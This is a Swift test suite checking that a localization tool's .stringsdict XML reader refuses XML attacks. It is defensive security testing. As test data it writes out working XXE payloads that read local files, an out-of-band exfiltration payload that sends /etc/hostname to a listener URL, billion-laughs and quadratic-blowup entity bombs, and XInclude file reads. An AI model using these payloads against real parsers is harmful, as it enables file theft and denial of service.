import Foundation
import Testing
@testable import LocBridge

extension Legacy {
    /// The `.stringsdict` (XML property list) reader against XML attacks (README "Security"). Apple's
    /// `<!DOCTYPE plist PUBLIC … "http://www.apple.com/DTDs/…">` is allowed, so its DTD must never be
    /// fetched or read: a listener on 127.0.0.1 sees no connection, a local DTD's entities stay unknown,
    /// every internal subset (where entities are declared) is refused, a schema location is ignored and
    /// an XInclude is an element a `<string>` cannot hold.
    @Suite struct StringsDictSecurityTests {
        static let subsetRefusal = "error: the document type declaration has an internal subset ([…]); locbridge refuses "
            + "them in property lists because they can declare entities that read local files or expand without limit"

        /// A `.stringsdict` with `doctype` on line 2 and one entry `%d files` whose `other` form is `other`.
        static func dict(doctype: String, other: String, plistAttributes: String = "") -> String {
            """
            <?xml version="1.0" encoding="UTF-8"?>
            \(doctype)
            <plist version="1.0"\(plistAttributes)>
            <dict>
            <key>%d files</key>
            <dict>
            <key>NSStringLocalizedFormatKey</key><string>%#@files@</string>
            <key>files</key>
            <dict>
            <key>NSStringFormatSpecTypeKey</key><string>NSStringPluralRuleType</string>
            <key>NSStringFormatValueTypeKey</key><string>d</string>
            <key>one</key><string>%d file</string>
            <key>other</key><string>\(other)</string>
            </dict>
            </dict>
            </dict>
            </plist>

            """
        }

        /// The `other` form of `%d files`.
        static func other(_ text: String) throws -> String? {
            let dict = try Legacy.stringsDict(text)
            guard case .plural(let format)? = dict["%d files"]?.rule else { return nil }
            return format[variable: "files"]?[.other]
        }

        static func failure(_ text: String) -> String? { Legacy.stringsDictFailure(Array(text.utf8)) }

        static let apple = #"<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">"#

        @Test func appleDoctypeReads() throws {
            #expect(try Self.other(Self.dict(doctype: Self.apple, other: "%d files")) == "%d files")
        }

        @Test func xxeReadingALocalFileIsRefused() throws {
            try XLIFFReaderSecurityTests.withSecretFile { path, secret in
                let failure = Self.failure(Self.dict(doctype: "<!DOCTYPE plist [<!ENTITY secret SYSTEM \"file://\(path)\">]>",
                                                     other: "&secret;"))
                #expect(failure == "Localizable.stringsdict:2:17: " + Self.subsetRefusal)
                #expect(failure?.contains(secret) == false)
            }
        }

        /// A local DTD is never loaded, so the entity it declares is undefined and its use refused.
        @Test func externalDTDFileIsNeverRead() throws {
            try XLIFFReaderSecurityTests.withSecretFile { path, secret in
                let dtd = path + ".dtd"
                try Data("<!ENTITY leak \"\(secret)\">".utf8).write(to: URL(fileURLWithPath: dtd))
                defer { try? FileManager.default.removeItem(atPath: dtd) }
                for doctype in ["<!DOCTYPE plist SYSTEM \"\(dtd)\">", "<!DOCTYPE plist SYSTEM \"file://\(dtd)\">"] {
                    let failure = Self.failure(Self.dict(doctype: doctype, other: "&leak;"))
                    #expect(failure == "Localizable.stringsdict:13:31: error: malformed XML: Entity 'leak' not defined")
                    #expect(failure?.contains(secret) == false)
                    #expect(try Self.other(Self.dict(doctype: doctype, other: "%d files")) == "%d files")
                }
            }
        }

        struct Case: Sendable, CustomTestStringConvertible {
            let name: String
            let doctype: @Sendable (LoopbackListener) -> String
            let other: String
            /// The failure after `Localizable.stringsdict:`, or nil when the file reads and the form is `other`.
            let expected: String?
            var testDescription: String { name }
        }

        static let cases: [Case] = [
            Case(name: "external DTD by SYSTEM id", doctype: { "<!DOCTYPE plist SYSTEM \"\($0.url("PropertyList-1.0.dtd"))\">" },
                 other: "%d files", expected: nil),
            Case(name: "external DTD by PUBLIC id", doctype: {
                "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"\($0.url("PropertyList-1.0.dtd"))\">"
            }, other: "%d files", expected: nil),
            Case(name: "external DTD declaring the entity used", doctype: { "<!DOCTYPE plist SYSTEM \"\($0.url("leak.dtd"))\">" },
                 other: "&leak;", expected: "13:31: error: malformed XML: Entity 'leak' not defined"),
            Case(name: "XXE over the network", doctype: { "<!DOCTYPE plist [<!ENTITY e SYSTEM \"\($0.url("e"))\">]>" },
                 other: "&e;", expected: "2:17: " + subsetRefusal),
            Case(name: "XXE after Apple's DOCTYPE", doctype: {
                #"<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd" "#
                    + "[<!ENTITY e SYSTEM \"\($0.url("e"))\">]>"
            }, other: "&e;", expected: "2:103: " + subsetRefusal),
            Case(name: "parameter entity", doctype: { "<!DOCTYPE plist [<!ENTITY % p SYSTEM \"\($0.url("p.dtd"))\"> %p;]>" },
                 other: "%d files", expected: "2:17: " + subsetRefusal),
            Case(name: "out-of-band exfiltration through parameter entities", doctype: {
                "<!DOCTYPE plist [<!ENTITY % file SYSTEM \"file:///etc/hostname\">"
                    + "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '\($0.url("?d=%file;"))'>\"> %eval; %exfil;]>"
            }, other: "%d files", expected: "2:17: " + subsetRefusal),
            Case(name: "billion laughs", doctype: {
                _ = $0
                return "<!DOCTYPE plist [<!ENTITY a \"lol\">" + (1...9).map { level in
                    "<!ENTITY \(String(repeating: "a", count: level + 1)) \""
                        + String(repeating: "&\(String(repeating: "a", count: level));", count: 10) + "\">"
                }.joined() + "]>"
            }, other: "&aaaaaaaaaa;", expected: "2:17: " + subsetRefusal),
            Case(name: "quadratic blowup", doctype: {
                _ = $0
                return "<!DOCTYPE plist [<!ENTITY a \"\(String(repeating: "x", count: 100_000))\">]>"
            }, other: String(repeating: "&a;", count: 10_000), expected: "2:17: " + subsetRefusal),
        ]

        @Test(arguments: cases)
        func dtdsAreNeverLoadedAndEntitiesNeverDeclared(_ item: Case) throws {
            let listener = try LoopbackListener()
            let text = Self.dict(doctype: item.doctype(listener), other: item.other)
            if let expected = item.expected {
                #expect(Self.failure(text) == "Localizable.stringsdict:" + expected)
            } else {
                #expect(try Self.other(text) == item.other)
            }
            #expect(listener.acceptedConnections() == 0)
        }

        @Test func schemaLocationIsIgnored() throws {
            let listener = try LoopbackListener()
            let text = Self.dict(doctype: Self.apple, other: "%d files", plistAttributes: """
                 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" \
                xsi:schemaLocation="http://www.apple.com/plist \(listener.url("plist.xsd"))" \
                xsi:noNamespaceSchemaLocation="\(listener.url("other.xsd"))"
                """)
            #expect(try Self.other(text) == "%d files")
            #expect(listener.acceptedConnections() == 0)
        }

        /// A `<string>` holds text only: an `<xi:include>` in it is refused, never followed.
        @Test func xincludeIsRefusedNeverFollowed() throws {
            let listener = try LoopbackListener()
            try XLIFFReaderSecurityTests.withSecretFile { path, secret in
                for href in ["/etc/hostname", path, listener.url("include.txt")] {
                    let include = #"<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="\#(href)" parse="text"/>"#
                    let failure = Self.failure(Self.dict(doctype: Self.apple, other: "%d " + include))
                    #expect(failure == "Localizable.stringsdict:13:28: error: <string> cannot contain elements (found <include>)", "\(href)")
                    #expect(failure?.contains(secret) == false)
                }
            }
            #expect(listener.acceptedConnections() == 0)
        }
    }
}
